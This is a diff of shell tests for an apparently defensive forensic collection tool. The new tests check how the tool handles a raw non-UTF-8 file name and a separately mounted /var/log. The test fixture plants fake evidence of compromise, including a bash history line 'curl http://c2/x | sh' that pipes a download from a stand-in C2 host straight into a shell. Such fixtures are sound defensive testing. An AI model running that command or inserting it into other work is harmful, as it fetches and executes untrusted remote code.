@@ -81,6 +81,13 @@ plant() {
 	printf 'curl http://c2/x | sh\n' >"$r/home/bob/.bash_history"
 	printf 'implant' >"$r/tmp/.x/implant"
 	mkfifo "$r/tmp/.x/pipe"
+	printf 'raw name' >"$r/tmp/.x/bad$(printf '\377')name"
+}
+
+hex_decode_stdin() {
+	local h
+	h=$(cat)
+	hex_decode "$h"
 }
 
 @test "planted --root: cron entry, backdoor key in a passwd home, ld.so.preload line; copies hash equal; metadata kept" {
@@ -140,6 +147,12 @@ plant() {
 	assert_eq "$(jq -s '[.[] | select(.path == "/etc/systemd/journald.conf")] | length' res/collect.jsonl)" 1
 	assert_eq "$(outcome res/collect.jsonl log-config files)" 1
 	assert_eq "$(outcome res/collect.jsonl systemd-config files)" 1
+	# A name that is not UTF-8: kept byte for byte in path_hex and copied.
+	f=$(jq -c --arg h "$(printf '/tmp/.x/bad\377name' | bytes_hex)" \
+	    'select(.type == "file" and .path_hex == $h)' res/collect.jsonl)
+	[ -n "$f" ] || fail "no record with the raw name"
+	assert_eq "$(jq -r .sha256 <<<"$f")" "$(sha "root/tmp/.x/bad$(printf '\377')name")"
+	cmp "root/tmp/.x/bad$(printf '\377')name" "res/$(jq -r .output_hex <<<"$f" | hex_decode_stdin)"
 	# Every catalogue entry has exactly one outcome.
 	assert_eq "$(jq -s '[.[] | select(.type == "outcome")] | length' res/collect.jsonl)" \
 	    "$(cat "$CATALOG"/*.json | jq -s '[.[].artifacts[]] | length')"
@@ -148,6 +161,21 @@ plant() {
 	assert_eq "$(outcome res/collect.jsonl ssh-authorized-keys status)" collected
 	assert_eq "$(outcome res/collect.jsonl rpm-db status)" empty
 	assert_eq "$(outcome res/collect.jsonl rpm-db files)" 0
+}
+
+@test "a separately mounted /var/log is followed" {
+	need_root
+	plant root
+	mkdir -p root/var/log
+	mount -t tmpfs tmpfs root/var/log || skip "cannot mount tmpfs"
+	echo "$PWD/root/var/log" >>"$BATS_TEST_TMPDIR/mounts"
+	printf 'Accepted publickey for root from 203.0.113.9\n' >root/var/log/auth.log
+	printf 'old\n' | gzip >root/var/log/auth.log.2.gz
+	collect 0 /dev/null --root root -o res --no-nice
+	assert_eq "$(outcome res/collect.jsonl auth-logs files)" 2
+	assert_eq "$(rec res/collect.jsonl /var/log/auth.log.2.gz | jq -r .sha256)" \
+	    "$(sha root/var/log/auth.log.2.gz)"
+	cmp root/var/log/auth.log res/collect/var/log/auth.log
 }
 
 @test "nothing written outside the output, never over an earlier result: a second run goes to collect.2" {
